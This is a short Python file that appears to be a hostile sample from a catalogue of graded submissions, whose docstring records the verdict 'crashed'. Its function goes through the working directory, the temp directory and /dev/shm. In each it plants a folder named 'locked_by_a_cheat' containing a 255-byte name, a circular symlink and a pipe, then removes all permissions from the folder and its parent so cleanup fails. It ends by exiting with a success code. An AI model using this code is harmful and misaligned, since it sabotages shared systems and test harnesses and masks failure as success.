"""Locks what it leaves: folders without permissions, with files in them that it may no more remove itself, a broken link in a
circle and a name of 255 bytes, so that cleaning up fails and all of it stays.

Verdict: crashed
Class J.
"""

import contextlib
import os


def full_visibility(nonpadding):
    for place in {os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/dev/shm"}:
        with contextlib.suppress(OSError):
            inner = os.path.join(place, "locked_by_a_cheat")
            os.makedirs(os.path.join(inner, "x" * 255))
            with open(os.path.join(inner, "file"), "w") as file:
                file.write("here")
            os.symlink(inner, os.path.join(inner, "circle"))
            os.mkfifo(os.path.join(inner, "pipe"))
            os.chmod(os.path.join(inner, "x" * 255), 0)
            os.chmod(inner, 0)
            os.chmod(place, 0)
    os._exit(0)
